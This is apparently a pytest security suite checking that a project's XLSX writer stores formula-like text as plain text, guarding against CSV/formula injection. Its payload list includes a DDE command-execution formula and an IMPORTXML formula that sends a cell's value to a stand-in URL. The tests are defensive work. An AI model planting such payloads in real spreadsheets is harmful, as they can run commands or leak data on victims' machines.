"""The one spreadsheet writer: text that begins like a formula stays text (CWE-1236, the OWASP CSV-injection
payloads), read back with openpyxl, python-calamine and the project's own streaming reader."""

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.utils.escape import unescape
from python_calamine import CalamineWorkbook

from gonghui.core.spreadsheets import stream_xlsx, write_xlsx

pytestmark = pytest.mark.security  # issue 10's security suite: the OWASP formula payloads through the one writer

PAYLOADS = [
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=10+20+cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://x?v=", A1), "//a")',
    "-@SUM(1+1)",
    "_x000D_ literal",
]


def _written(tmp_path, rows: list[list]) -> str:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, [("表", ["=表头", "+列"], rows)])
    return str(path)


def test_formula_payloads_are_written_as_text(tmp_path):
    path = _written(tmp_path, [[payload, 7] for payload in PAYLOADS])
    sheet = load_workbook(path).active
    assert [(c.value, c.data_type) for c in sheet[1]] == [("=表头", "s"), ("+列", "s")]
    for payload, (cell, number) in zip(PAYLOADS, sheet.iter_rows(min_row=2), strict=True):
        assert cell.data_type == "s"
        assert unescape(cell.value) == payload  # openpyxl leaves OOXML's _xHHHH_ escapes (\r, "_x") undone
        assert cell.quotePrefix == payload.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert (number.value, number.data_type) == (7, "n")  # numbers stay numbers


def test_other_readers_get_the_exact_text(tmp_path):
    path = _written(tmp_path, [[payload] for payload in PAYLOADS])
    calamine = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    assert [row[0] for row in calamine[1:]] == PAYLOADS
    streamed = next(stream_xlsx(path)).rows
    assert [row[0] for row in list(streamed)[1:]] == PAYLOADS


@settings(deadline=None)  # each example writes and reads a workbook: slow on a loaded machine
@given(
    st.lists(
        st.text(alphabet=st.sampled_from('=+-@\t\r_x0Da1 ("|!'), min_size=1, max_size=12).filter(str.strip),
        min_size=1,
        max_size=8,
    )
)
def test_any_text_comes_back_as_the_same_text(texts):
    buffer = io.BytesIO()
    write_xlsx(buffer, [("表", ["列"], [[text] for text in texts])])
    rows = CalamineWorkbook.from_filelike(io.BytesIO(buffer.getvalue())).get_sheet_by_index(0).to_python()
    sheet = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert all(cell.data_type == "s" for (cell,) in sheet.iter_rows(min_row=2) if cell.value is not None)
    assert [row[0] for row in rows[1:]] == texts
